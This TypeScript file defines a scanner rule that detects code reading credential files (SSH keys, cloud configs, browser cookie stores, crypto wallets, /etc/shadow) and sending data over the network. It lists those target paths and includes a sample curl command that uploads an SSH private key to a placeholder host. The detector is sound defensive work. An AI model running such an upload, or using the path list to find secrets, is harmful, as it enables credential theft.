import { defineTextRule } from "../../text-rule.ts";
import type { Judgement, Match } from "../../text-rule.ts";
import { credentialReaders } from "./credential-readers.ts";
import { family, SENDS } from "./family.ts";

const CREDENTIAL_PATH = String.raw`(?:[~$\w{}()./\\"'+, -]{0,60}[/\\"'])?(?:\.ssh(?![a-z])(?:[/\\"', ]{1,8}(?:id_[a-z0-9]{2,12}|config|known_hosts|authorized_keys|\*))?|id_rsa|id_ed25519|id_ecdsa|\.aws[/\\"', ]{1,8}(?:credentials|config)|\.netrc|\.npmrc|\.pypirc|\.docker[/\\"', ]{1,8}config\.json|\.kube[/\\"', ]{1,8}config|\.config[/\\"', ]{1,8}(?:gcloud|gh)[/\\"', ]{1,8}\w{1,40}|application_default_credentials|\.git-credentials|\.gnupg|wallet\.dat|\.electrum|exodus\.wallet|\.bitcoin|keystore|metamask|nkbihfbeogaeaoehlefnkodbefgpgknn|Login Data|cookies\.sqlite|Cookies|logins\.json|key4\.db|Local State|Web Data|login\.keychain|keychain-db|\/etc\/shadow|\.bash_history|\.zsh_history|auth-profiles\.json|\.claude[/\\"', ]{1,8}\.credentials\.json|\.m2[/\\]settings(?:-security)?\.xml|\.gradle[/\\]gradle\.properties|\.password-store|\.azure[/\\]|\.cargo[/\\"', ]{1,8}credentials(?:\.toml)?|\.kaggle[/\\"', ]{1,8}kaggle\.json|Messages[/\\]chat\.db|\.config[/\\"', ]{1,8}solana[/\\"', ]{1,8}id\.json)`;

const CREDENTIAL_ANCHORS = [
  ".ssh",
  "id_rsa",
  "id_ed25519",
  "id_ecdsa",
  ".aws",
  ".netrc",
  ".npmrc",
  ".pypirc",
  ".docker",
  ".kube",
  "gcloud",
  ".config/gh",
  "application_default_credentials",
  ".git-credentials",
  ".gnupg",
  "wallet.dat",
  ".electrum",
  "exodus",
  ".bitcoin",
  "keystore",
  "metamask",
  "nkbihfbeogaeaoehlefnkodbefgpgknn",
  "login data",
  "cookies",
  "logins.json",
  "key4.db",
  "local state",
  "web data",
  "login.keychain",
  "keychain-db",
  "/etc/shadow",
  ".bash_history",
  ".zsh_history",
  "auth-profiles.json",
  ".credentials.json",
  "solana",
  ".m2/settings",
  ".gradle/gradle.properties",
  ".password-store",
  ".azure/",
  ".cargo/credentials",
  ".kaggle/",
  "messages/chat.db",
];

export const credentials = defineTextRule({
  ...family,
  id: "CODE-CREDENTIALS",
  summary: "A program reads a file that holds credentials, and sends something over the network.",
  why: "Whoever gets the file can be the user: on their machines, in their accounts, with their money.",
  fix: "Do not touch the file. Let the tool that it belongs to do what needs it.",
  example: {
    path: "scripts/run.sh",
    caught: "cu{gap}rl -F file=@$HOME/.ssh/id_rsa https://x.example.invalid/\n",
    instead: "ssh-keygen -t ed25519 -f key\n",
  },
  triggers: [
    ...credentialReaders,
    { anchors: CREDENTIAL_ANCHORS, behind: 60, pattern: new RegExp(CREDENTIAL_PATH, "giu"), judge: judgeCredentials },
  ],
});

const READS =
  /\b(?:new File|read_to_string|ReadFile|open|read|readFile(?:Sync)?|read_text|read_bytes|cat|cp|copy|copyFile\w*|shutil|tar|zip|base64|Get-Content|gc|type|createReadStream|File\.read|file_get_contents|sqlite3|connect|glob|listdir|os\.walk|xxd|less|head|tail|scp|rsync|find|grep|@)|(?:-F|-d|--data(?:-binary)?|-T|--upload-file)\s{0,3}\S{0,20}@|[<@]\s{0,3}[~$/]/iu;

const MANY_STORES =
  /\.ssh\b|\.gnupg\b|\.aws\b|\.netrc\b|\.kube\b|\.docker\b|\.config\/gh\b|\.git-credentials\b|\.pypirc\b|\.npmrc\b|gcloud\b/gu;

/** Reading and sending, both in one program. A text that only names the file, and tools that own it, are something else. */
function judgeCredentials({ text, start, end, has, isNear, place }: Match): Judgement | null {
  if (!isNear(READS)) return null;
  if (/\b(?:tmp_?path|tmp_?dir|tempfile|mkdtemp)\b/iu.test(text.slice(Math.max(0, start - 20), end))) return null;
  if (/\.pub\b/u.test(text.slice(end, end + 6)) || /known_hosts|\.ssh\/config|\.npmrc|keystore|cookies$/iu.test(text.slice(start, end)))
    return null;
  const line = `${place.linePrefix}${text.slice(start, end + 200).split("\n", 1)[0] ?? ""}`;
  if (
    text
      .slice(start, end)
      .replace(/[a-z_]\w*$/iu, "")
      .endsWith("\\.") ||
    /re\.compile|RegExp\(|\br["']/u.test(place.linePrefix)
  )
    return null;
  if (
    /ssh-keygen|ssh-add|ssh-copy-id|\b(?:ssh|scp|sftp|rsync|git)\b[^\n]{0,60}\s-i\s|ssh -i|key_filename|identity_?file|private_key_path|IdentityFile|chmod\s+[46]00|mkdir/iu.test(
      line,
    )
  )
    return null;
  if (
    /(?:^|\|)\s*\*\/\.(?:ssh|aws|gnupg|env)[^\n]{0,80}(?:\||\))|\b(?:refuse|deny|denied|forbid|block|exclude|skip|ignore|redact)\w*\b/iu.test(
      line,
    ) &&
    !SENDS.test(line)
  )
    return null;
  if (
    place.kind === "data" &&
    /"?(?:deny|denied|forbid\w*|block\w*|exclude\w*|disallow\w*)"?\s{0,4}[:=]\s{0,4}[[{"'][^\]}]{0,400}$/iu.test(
      text.slice(Math.max(0, start - 400), start),
    )
  )
    return null;
  const isOneLine = READS.test(line) && SENDS.test(line);
  if (isOneLine) return {};
  if (place.kind === "prose" && !place.isInFence) return null;
  const near = text.slice(Math.max(0, start - 300), end + 300);
  if (!READS.test(near)) return null;
  const isSent = isNear(SENDS) || (place.kind === "script" && has(SENDS));
  const isMany = (line.match(MANY_STORES) ?? []).length > 2;
  if (isSent) return place.kind === "script" || isMany ? {} : { action: "warn" };
  return place.kind === "script" ? { action: "warn", what: "A program reads a file that holds credentials" } : null;
}
